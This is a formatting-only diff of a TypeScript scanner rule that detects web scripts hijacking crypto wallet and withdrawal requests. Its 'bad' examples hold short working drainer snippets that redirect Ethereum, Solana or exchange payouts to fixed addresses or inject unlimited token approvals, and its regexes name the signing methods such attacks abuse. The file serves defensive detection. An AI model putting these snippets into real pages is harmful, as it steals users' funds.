@@ -1,4 +1,15 @@
-import { apiPath, callsNamed, callsOf, constant, Op, pattern, propertyOf, show, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  constant,
+  Op,
+  pattern,
+  propertyOf,
+  show,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { mentions, textsOf } from './network.ts';
@@ -7,13 +18,24 @@ import { runsInPages } from './places.ts';
 import { few, functionOf, itemsOf } from './usage.ts';
 
 /** Methods by which pages ask a wallet for payments and signatures. */
-const METHODS = ['request', 'send', 'sendAsync', 'signTransaction', 'signAllTransactions', 'signAndSendTransaction', 'signMessage', 'sendTransaction'];
-const WALLET = /eth_\(?(send|sign)|personal_sign|signAndSendTransaction|signAllTransactions|SystemProgram|setApprovalForAll|increaseAllowance|tron(Web|Link)|sui:sign/;
+const METHODS = [
+  'request',
+  'send',
+  'sendAsync',
+  'signTransaction',
+  'signAllTransactions',
+  'signAndSendTransaction',
+  'signMessage',
+  'sendTransaction',
+];
+const WALLET =
+  /eth_\(?(send|sign)|personal_sign|signAndSendTransaction|signAllTransactions|SystemProgram|setApprovalForAll|increaseAllowance|tron(Web|Link)|sui:sign/;
 /** Requests by which pages of exchanges pay out. */
 const PAYS_OUT = /withdraw|payout|pay_?out|send_?(coin|crypto|money)|\btransfers?\b|transactions\b/i;
 const ASKED = new RegExp(`${WALLET.source}|${PAYS_OUT.source}`, 'i');
 /** Ethereum, Bitcoin, Tron and (32 to 44 characters) Solana. */
-const ADDRESS = /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33}|(?=.*[0-9])(?=.*[A-Z])(?=.*[a-z])[1-9A-HJ-NP-Za-km-z]{32,44})$/;
+const ADDRESS =
+  /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33}|(?=.*[0-9])(?=.*[A-Z])(?=.*[a-z])[1-9A-HJ-NP-Za-km-z]{32,44})$/;
 /** Calls of token contracts that let others spend: approve, setApprovalForAll, increaseAllowance, transfer. */
 const SPENDING = /^0x(095ea7b3|a22cb465|39509351|a9059cbb|d505accf)/i;
 const NOBODY = /^0x0{40}$|^1{32}$/;
@@ -35,48 +57,93 @@ export const walletRequestsChanged = defineRule({
     for (const call of few(callsNamed(script, 'request', 'send', 'sendAsync'), 100)) {
       // The script itself asks the wallet of a page to let somebody spend.
       const asked = call.args[0] ?? 0;
-      if (constant(script, propertyOf(script, asked, 'method')) !== 'eth_sendTransaction' || !/ethereum/i.test(apiPath(script, call.callee) ?? show(script, call.callee))) continue;
+      if (
+        constant(script, propertyOf(script, asked, 'method')) !== 'eth_sendTransaction' ||
+        !/ethereum/i.test(apiPath(script, call.callee) ?? show(script, call.callee))
+      )
+        continue;
       const what = itemsOf(script, propertyOf(script, asked, 'params'))[0] ?? 0;
-      if (SPENDING.test(pattern(script, propertyOf(script, what, 'data')))) yield hit(call.value, { message: 'It asks the wallet to let somebody else spend what is in it.' });
+      if (SPENDING.test(pattern(script, propertyOf(script, what, 'data'))))
+        yield hit(call.value, { message: 'It asks the wallet to let somebody else spend what is in it.' });
     }
     const page = mentions(script, PAYS_OUT) ? requestFunction(script) : undefined;
-    const replaced = few(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined)?.property ?? assigned(script) ?? wrapped(script) ?? page;
+    const replaced =
+      few(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined)?.property ??
+      assigned(script) ??
+      wrapped(script) ??
+      page;
     if (replaced === undefined) return;
     const allowance = few(writesOf(script, 'data'), 60).find((write) => SPENDING.test(pattern(script, write.value)));
-    if (allowance !== undefined && mentions(script, WALLET)) yield hit(allowance.value, { message: `The method ${replaced} is replaced, and the payment is made a permission to spend what is in the wallet.` });
-    const own = new Set(textsOf(script).filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text)).map(({ value }) => value));
+    if (allowance !== undefined && mentions(script, WALLET))
+      yield hit(allowance.value, {
+        message: `The method ${replaced} is replaced, and the payment is made a permission to spend what is in the wallet.`,
+      });
+    const own = new Set(
+      textsOf(script)
+        .filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text))
+        .map(({ value }) => value),
+    );
     if (own.size === 0) return;
     const names = new Set([...own].map((value) => constant(script, value)));
     for (const value of receivers(script)) {
       const origins = originsOf(script, value);
       const mine = [...origins].find((one) => own.has(one) || names.has(constant(script, one)));
       if (mine === undefined) continue;
-      yield hit(value, { evidence: constant(script, mine) ?? '', message: `The method ${replaced} is replaced, and payments go to this address.` });
+      yield hit(value, {
+        evidence: constant(script, mine) ?? '',
+        message: `The method ${replaced} is replaced, and payments go to this address.`,
+      });
       return;
     }
   }),
   examples: {
     bad: [
-      contentExample('const sink = "0xde709f2102306220921060314715629080e2fb77"; const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].to = sink; return ask(a); };'),
-      contentExample('const s = window.solana; const sign = s.signAndSendTransaction.bind(s); s.signAndSendTransaction = async (tx) => { tx.instructions.push(web3.SystemProgram.transfer({ fromPubkey: s.publicKey, toPubkey: new web3.PublicKey("BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"), lamports: 5e6 })); return sign(tx); };'),
-      contentExample('const dest = "0x52908400098527886E0F7030069857D2E4169EE7"; const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : async (q) => { if (/^eth_sendTransaction$/.test(q.method)) q = { ...q, params: [{ ...q.params[0], to: dest }] }; return v.call(t, q); }; } }); let e = window.ethereum; Object.defineProperty(window, "ethereum", { get: () => wrap(e) });'),
-      contentExample('(async () => { const [a] = await window.ethereum.request({ method: "eth_requestAccounts" }); const data = "0x095ea7b3" + "0".repeat(24) + "f".repeat(64); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: a, to: "0xdAC17F958D2ee523a2206206994597C13D831ec7", data }] }); })();'),
-      contentExample('const book = { BTC: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ETH: "0xde709f2102306220921060314715629080e2fb77" }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset]; body = JSON.stringify(b); } return send.call(this, body); };'),
-      contentExample('let e; Object.defineProperty(window, "ethereum", { get: () => e, set(v) { e = new Proxy(v, { get(t, k) { return k !== "request" ? t[k] : (q) => { if (q.method === "eth_sendTransaction") q.params[0].data = "0x095ea7b3" + who + "f".repeat(64); return t.request(q); }; } }); } });'),
-      contentExample('const fee = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"; const w = window.solana; const old = w.signTransaction.bind(w); const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(fee), lamports: 1300000 })); return tx; }; Object.assign(w, { signTransaction: (tx) => old(add(tx)) });'),
+      contentExample(
+        'const sink = "0xde709f2102306220921060314715629080e2fb77"; const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].to = sink; return ask(a); };',
+      ),
+      contentExample(
+        'const s = window.solana; const sign = s.signAndSendTransaction.bind(s); s.signAndSendTransaction = async (tx) => { tx.instructions.push(web3.SystemProgram.transfer({ fromPubkey: s.publicKey, toPubkey: new web3.PublicKey("BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"), lamports: 5e6 })); return sign(tx); };',
+      ),
+      contentExample(
+        'const dest = "0x52908400098527886E0F7030069857D2E4169EE7"; const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : async (q) => { if (/^eth_sendTransaction$/.test(q.method)) q = { ...q, params: [{ ...q.params[0], to: dest }] }; return v.call(t, q); }; } }); let e = window.ethereum; Object.defineProperty(window, "ethereum", { get: () => wrap(e) });',
+      ),
+      contentExample(
+        '(async () => { const [a] = await window.ethereum.request({ method: "eth_requestAccounts" }); const data = "0x095ea7b3" + "0".repeat(24) + "f".repeat(64); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: a, to: "0xdAC17F958D2ee523a2206206994597C13D831ec7", data }] }); })();',
+      ),
+      contentExample(
+        'const book = { BTC: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ETH: "0xde709f2102306220921060314715629080e2fb77" }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset]; body = JSON.stringify(b); } return send.call(this, body); };',
+      ),
+      contentExample(
+        'let e; Object.defineProperty(window, "ethereum", { get: () => e, set(v) { e = new Proxy(v, { get(t, k) { return k !== "request" ? t[k] : (q) => { if (q.method === "eth_sendTransaction") q.params[0].data = "0x095ea7b3" + who + "f".repeat(64); return t.request(q); }; } }); } });',
+      ),
+      contentExample(
+        'const fee = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"; const w = window.solana; const old = w.signTransaction.bind(w); const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(fee), lamports: 1300000 })); return tx; }; Object.assign(w, { signTransaction: (tx) => old(add(tx)) });',
+      ),
     ],
     good: [
-      contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(this.url)) warn("Check the address " + JSON.parse(body).address); return send.call(this, body); }; const donate = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq";'),
-      contentExample('const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k === "request" ? async (q) => { log(q.method === "eth_sendTransaction"); return v.call(t, q); } : v; } }); const help = { to: "https://tool.example/help" };'),
-      contentExample('const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction" && !(await warn(a.params[0].to))) throw new Error("stopped"); return ask(a); };'),
-      contentExample('class Provider { request(a) { return post(a); } } const usdc = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"; const p = new Provider(); if (a.method === "eth_sendTransaction" && a.params[0].to === usdc) show(p);'),
+      contentExample(
+        'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(this.url)) warn("Check the address " + JSON.parse(body).address); return send.call(this, body); }; const donate = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq";',
+      ),
+      contentExample(
+        'const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k === "request" ? async (q) => { log(q.method === "eth_sendTransaction"); return v.call(t, q); } : v; } }); const help = { to: "https://tool.example/help" };',
+      ),
+      contentExample(
+        'const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction" && !(await warn(a.params[0].to))) throw new Error("stopped"); return ask(a); };',
+      ),
+      contentExample(
+        'class Provider { request(a) { return post(a); } } const usdc = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"; const p = new Provider(); if (a.method === "eth_sendTransaction" && a.params[0].to === usdc) show(p);',
+      ),
     ],
   },
 });
 
 /** The function of pages that sends requests and is replaced: `XMLHttpRequest.prototype.send = …`, `window.fetch = …`. */
 function requestFunction(script: ScriptFacts): string | undefined {
-  const found = few(writesOf(script, 'send', 'fetch')).find((write) => functionOf(script, write.value) !== undefined && /^(XMLHttpRequest\.prototype|window|self|globalThis)$/.test(apiPath(script, write.object) ?? ''));
+  const found = few(writesOf(script, 'send', 'fetch')).find(
+    (write) =>
+      functionOf(script, write.value) !== undefined &&
+      /^(XMLHttpRequest\.prototype|window|self|globalThis)$/.test(apiPath(script, write.object) ?? ''),
+  );
   return found?.property;
 }
 
@@ -84,7 +151,11 @@ function requestFunction(script: ScriptFacts): string | undefined {
 function assigned(script: ScriptFacts): string | undefined {
   for (const call of few(callsOf(script, 'Object.assign'), 60)) {
     const found = METHODS.find((name) => functionOf(script, propertyOf(script, call.args[1] ?? 0, name)) !== undefined);
-    if (found !== undefined && /solana|ethereum|tron|phantom|wallet/i.test([...originPaths(script, call.args[0] ?? 0)].join(' '))) return found;
+    if (
+      found !== undefined &&
+      /solana|ethereum|tron|phantom|wallet/i.test([...originPaths(script, call.args[0] ?? 0)].join(' '))
+    )
+      return found;
   }
   return undefined;
 }
@@ -97,7 +168,22 @@ function wrapped(script: ScriptFacts): string | undefined {
 
 /** Values that become the receiver of a payment. */
 function* receivers(script: ScriptFacts): Generator<number> {
-  for (const write of few(writesOf(script, 'to', 'toPubkey', 'recipient', 'destination', 'spender', 'address', 'toAddress', 'to_address', 'withdrawAddress', 'wallet'))) yield write.value;
+  for (const write of few(
+    writesOf(
+      script,
+      'to',
+      'toPubkey',
+      'recipient',
+      'destination',
+      'spender',
+      'address',
+      'toAddress',
+      'to_address',
+      'withdrawAddress',
+      'wallet',
+    ),
+  ))
+    yield write.value;
   for (let value = 1, seen = 0; value < script.op.length && seen < 2000; value++) {
     if (script.op[value] !== Op.object) continue;
     seen++;
@@ -106,7 +192,8 @@ function* receivers(script: ScriptFacts): Generator<number> {
   }
   for (const call of few(callsNamed(script, 'request', 'send', 'sendAsync', 'transfer', 'sendTransaction'), 60)) {
     for (const arg of call.args) {
-      for (const name of ['to', 'toPubkey']) if (propertyOf(script, arg, name) !== 0) yield propertyOf(script, arg, name);
+      for (const name of ['to', 'toPubkey'])
+        if (propertyOf(script, arg, name) !== 0) yield propertyOf(script, arg, name);
       if (propertyOf(script, arg, 'params') !== 0) yield propertyOf(script, arg, 'params');
     }
   }
